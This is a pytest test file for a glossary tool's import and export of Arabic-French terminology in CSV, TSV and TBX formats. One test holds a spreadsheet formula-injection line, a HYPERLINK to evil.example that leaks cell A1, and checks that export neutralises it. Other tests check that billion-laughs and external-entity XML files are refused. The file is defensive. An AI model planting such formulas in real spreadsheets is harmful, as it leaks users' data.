"""`glossary import`: formats read, conflicts kept for review, bad rows and hostile XML."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

import glossary.cli  # noqa: F401  (first: the CLI module registers the commands below)
from glossary import review
from glossary.build import build
from glossary.commands_formats import export_command, import_command
from glossary.lookup import lookup
from glossary.store import Store

from .conftest import SEEDS

DATA = Path(__file__).resolve().parent / "data" / "formats"
DGST_AR = "المديرية العامة لمراقبة التراب الوطني"
HEADER = "ar,fr,acronym,kind,status,confidence,origin,variants,frequency,documents,context"


def _import(runner: CliRunner, path: Path, db: Path, *args: str) -> tuple[int, str]:
    result = runner.invoke(import_command, [str(path), "--db", str(db), *args])
    assert "Traceback" not in result.output, result.output
    return result.exit_code, result.stderr


def _preferred(db: Path, ar: str) -> dict[str, object]:
    store = Store(db)
    rows = store.query(
        "SELECT e.status, q.fr, q.acronym, q.origin, q.human, q.confidence FROM entries e "
        "JOIN equivalents q ON q.entry_id = e.id AND q.preferred = 1 WHERE e.ar = ?",
        [ar],
    )
    store.close()
    assert len(rows) == 1, rows
    return rows[0]


def _counts(db: Path) -> tuple[int, ...]:
    store = Store(db)
    counts = tuple(
        store.query(f"SELECT count(*) AS n FROM {table}")[0]["n"]
        for table in ("entries", "equivalents", "forms", "documents", "sentences")
    )
    store.close()
    return counts


def _write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out, lineterminator="\r\n").writerows(rows)
    return path


# --- formula neutralization ---------------------------------------------------------------


def test_a_formula_in_a_french_cell_comes_out_neutralized(
    runner: CliRunner, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"cliquez")'
    source = _write_csv(
        tmp_path / "in.csv",
        [["ar", "fr"], ["حرس الحدود", formula], ["الوكالة الوطنية للموانئ", "+33 1 23"]],
    )
    db = tmp_path / "g.db"
    code, err = _import(runner, source, db)
    assert code == 0, err
    assert _preferred(db, "حرس الحدود")["fr"] == formula  # the data is kept as given
    result = runner.invoke(export_command, ["--db", str(db)])
    rows = {r["ar"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert rows["حرس الحدود"]["fr"] == "'" + formula
    assert rows["الوكالة الوطنية للموانئ"]["fr"] == "'+33 1 23"


# --- hostile XML --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["billion_laughs.tbx", "external_entity.tbx", "external_parameter_entity.tbx"]
)
def test_hostile_xml_is_refused_and_nothing_imported(
    runner: CliRunner, fresh_db: Path, tmp_path: Path, name: str
) -> None:
    before = _counts(fresh_db)
    code, err = _import(runner, DATA / name, fresh_db)
    assert code == 2
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ")
    assert "refused" in lines[0] and "nothing imported" in lines[0]
    assert _counts(fresh_db) == before
    empty = tmp_path / "new.db"
    assert _import(runner, DATA / name, empty)[0] == 2
    assert not empty.exists()  # refused before a db was even created


def test_malformed_xml_is_reported_with_its_line(runner: CliRunner, tmp_path: Path) -> None:
    bad = tmp_path / "bad.tbx"
    bad.write_text("<tbx>\n<text>\n<body></text></tbx>\n", encoding="utf-8")
    code, err = _import(runner, bad, tmp_path / "g.db")
    assert code == 2 and "not well-formed XML (line 3" in err


# --- bad rows -----------------------------------------------------------------------------


def test_bad_rows_are_reported_with_line_numbers_and_good_rows_go_in(
    runner: CliRunner, tmp_path: Path
) -> None:
    source = tmp_path / "mixed.csv"
    source.write_text(
        HEADER + "\r\n"
        'حرس الحدود,garde-frontières,,term,proposed,0.80,manual,,2,1,"Une phrase\r\n'
        'sur deux lignes"\r\n'  # lines 2-3: one record
        ",sans arabe,,term,proposed,0.5,manual,,0,0,\r\n"  # line 4
        "الوكالة الوطنية للموانئ,Agence nationale des ports,ANP,organisation,"
        "approved,1,manual,,0,0,\r\n"  # line 5: good
        "الميناء,port,,animal,proposed,0.5,manual,,0,0,\r\n"  # line 6
        "المرفأ,port,,term,proposed,beaucoup,manual,,0,0,\r\n"  # line 7
        "الرصيف,quai,,term,proposed\r\n"  # line 8
        "الجمارك,douane,,term,proposed,0.5,guess,,0,0,\r\n",  # line 9
        encoding="utf-8",
    )
    db = tmp_path / "g.db"
    code, err = _import(runner, source, db)
    assert code == 1
    reported = {int(line.split(":")[1]): line for line in err.splitlines() if ": skipped: " in line}
    assert sorted(reported) == [4, 6, 7, 8, 9]
    assert "no Arabic" in reported[4] and "'animal'" in reported[6]
    assert "confidence" in reported[7] and "cells" in reported[8] and "origin" in reported[9]
    assert "2 added" in err and "5 bad rows skipped" in err
    assert _preferred(db, "حرس الحدود")["fr"] == "garde-frontières"
    agency = _preferred(db, "الوكالة الوطنية للموانئ")
    assert agency["acronym"] == "ANP" and agency["status"] == "approved"


def test_omegat_glossary_with_comments_and_a_bad_line(runner: CliRunner, tmp_path: Path) -> None:
    db = tmp_path / "g.db"
    code, err = _import(runner, DATA / "colleague.utf8", db)
    assert code == 1 and "colleague.utf8:6: skipped: no tab" in err
    border = _preferred(db, "حرس الحدود")
    assert border["fr"] == "garde-frontières" and border["status"] == "approved"
    ports = _preferred(db, "الوكالة الوطنية للموانئ")  # a fr→ar line, with "(ANP)"
    assert ports["fr"] == "Agence nationale des ports" and ports["acronym"] == "ANP"
    store = Store(db)
    assert store.query("SELECT note FROM entries WHERE ar = 'المنطقة العازلة'")[0]["note"] == (
        "usage MAP"
    )
    store.close()


def test_plain_tsv_in_either_order(runner: CliRunner, tmp_path: Path) -> None:
    db = tmp_path / "g.db"
    code, err = _import(runner, DATA / "plain.tsv", db)
    assert code == 0, err
    assert _preferred(db, "الوكالة الوطنية للموانئ")["fr"] == "Agence nationale des ports"
    rail = _preferred(db, "المكتب الوطني للسكك الحديدية")
    assert rail["fr"] == "" and rail["acronym"] == "ONCF"
    border = _preferred(db, "حرس الحدود")
    assert border["origin"] == "manual" and border["human"] == 1


# --- TBX in -------------------------------------------------------------------------------


def test_tbx_2008_martif_is_read(runner: CliRunner, tmp_path: Path) -> None:
    db = tmp_path / "g.db"
    code, err = _import(runner, DATA / "martif_2008.tbx", db)
    lines = (DATA / "martif_2008.tbx").read_text(encoding="utf-8").splitlines()
    english_only = next(n for n, line in enumerate(lines, 1) if 'id="t3"' in line)
    assert code == 1 and f"martif_2008.tbx:{english_only}: skipped: no Arabic term" in err
    border = _preferred(db, "حرس الحدود")
    assert border["fr"] == "garde-frontières" and border["status"] == "approved"
    ports = _preferred(db, "الوكالة الوطنية للموانئ")
    assert ports["acronym"] == "ANP" and ports["status"] == "proposed"
    store = Store(db)
    assert store.query("SELECT domain FROM entries WHERE ar = 'حرس الحدود'")[0]["domain"] == (
        "sécurité"
    )
    store.close()
    result = runner.invoke(export_command, ["--db", str(db)])
    rows = {r["ar"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert rows["الوكالة الوطنية للموانئ"]["context"].startswith("أعلنت الوكالة")


# --- conflicts with a person's decisions ---------------------------------------------------


def test_an_import_does_not_overwrite_an_approved_entry(
    runner: CliRunner, fresh_db: Path, tmp_path: Path
) -> None:
    store = Store(fresh_db)
    dgst_id = store.query("SELECT id FROM entries WHERE ar = ?", [DGST_AR])[0]["id"]
    review.set_status(store, dgst_id, "approved")
    store.close()
    before = _preferred(fresh_db, DGST_AR)
    source = _write_csv(
        tmp_path / "theirs.csv",
        [["ar", "fr"], [DGST_AR, "Direction de la surveillance du territoire (DST)"]],
    )

    code, err = _import(runner, source, fresh_db)
    assert code == 0
    assert "theirs.csv:2: conflict:" in err and "--overwrite" in err
    assert "1 conflict left for review" in err
    assert _preferred(fresh_db, DGST_AR) == before

    code, err = _import(runner, source, fresh_db, "--overwrite")
    assert code == 0 and "1 updated" in err
    after = _preferred(fresh_db, DGST_AR)
    assert after["fr"] == "Direction de la surveillance du territoire"
    assert after["acronym"] == "DST" and after["human"] == 1


def test_imported_french_survives_a_rebuild_and_is_found(
    runner: CliRunner, fresh_db: Path, tmp_path: Path
) -> None:
    target = "الأمن الداخلي"
    store = Store(fresh_db)
    assert store.query("SELECT id FROM entries WHERE ar = ?", [target])
    store.close()
    source = _write_csv(
        tmp_path / "mine.csv",
        [
            ["ar", "fr", "context"],
            [target, "sécurité intérieure (usage maison)", ""],
            ["حرس الحدود", "gardes", "انتشر حرس الحدود على طول الساحل."],
        ],
    )
    code, err = _import(runner, source, fresh_db)
    assert code == 0 and "1 added, 1 updated" in err
    store = Store(fresh_db)
    paths = {r["path"] for r in store.query("SELECT path FROM documents")}
    assert "imported:mine.csv" in paths and len(paths) == 6
    assert lookup(store, "حرس الحدود").hits[0].context == "انتشر حرس الحدود على طول الساحل."
    build([SEEDS], store)  # the miner runs again over the same corpus
    assert len(store.query("SELECT path FROM documents")) == 5  # the import's context left
    hits = lookup(store, "حرس الحدود").hits
    assert hits and hits[0].fr == "gardes"  # the new entry is found by lookup
    assert lookup(store, "usage maison").hits[0].ar == target  # and by its French
    store.close()
    kept = _preferred(fresh_db, target)
    assert kept["fr"] == "sécurité intérieure (usage maison)" and kept["origin"] == "manual"


def test_an_import_is_one_transaction(
    runner: CliRunner, fresh_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from glossary.formats import importer

    calls = {"n": 0}
    real = importer._insert_entry

    def failing(*args: object, **kwargs: object) -> int:
        calls["n"] += 1
        if calls["n"] == 2:
            raise RuntimeError("disk full")
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(importer, "_insert_entry", failing)
    before = _counts(fresh_db)
    result = runner.invoke(import_command, [str(DATA / "plain.tsv"), "--db", str(fresh_db)])
    assert result.exit_code != 0 and calls["n"] == 2
    assert _counts(fresh_db) == before


def test_unreadable_files_are_refused(runner: CliRunner, tmp_path: Path) -> None:
    binary = tmp_path / "g.csv"
    binary.write_bytes(bytes(range(256)) * 4)
    code, err = _import(runner, binary, tmp_path / "g.db")
    assert code == 2 and "not a text file" in err
    not_tbx = tmp_path / "page.xml"
    not_tbx.write_text("<html><body/></html>", encoding="utf-8")
    code, err = _import(runner, not_tbx, tmp_path / "g.db")
    assert code == 2 and "not TBX" in err


def test_a_term_given_twice_keeps_its_second_french_as_an_alternative(
    runner: CliRunner, tmp_path: Path
) -> None:
    source = tmp_path / "twice.csv"
    source.write_text(
        "\r\nar,fr\r\nالنيابة العامة,parquet\r\nالنيابة العامة,ministère public\r\n",
        encoding="utf-8",
    )
    db = tmp_path / "g.db"
    code, err = _import(runner, source, db)
    assert code == 0 and "1 added" in err and "1 more French kept as alternatives" in err
    assert _preferred(db, "النيابة العامة")["fr"] == "parquet"
    store = Store(db)
    french = {r["fr"] for r in store.query("SELECT fr FROM equivalents WHERE human = 1")}
    store.close()
    assert french == {"parquet", "ministère public"}


def test_a_header_without_arabic_is_refused(runner: CliRunner, tmp_path: Path) -> None:
    source = _write_csv(tmp_path / "fr-only.csv", [["fr", "acronym"], ["parquet", ""]])
    code, err = _import(runner, source, tmp_path / "g.db")
    assert code == 2 and "no Arabic column" in err and "nothing imported" in err
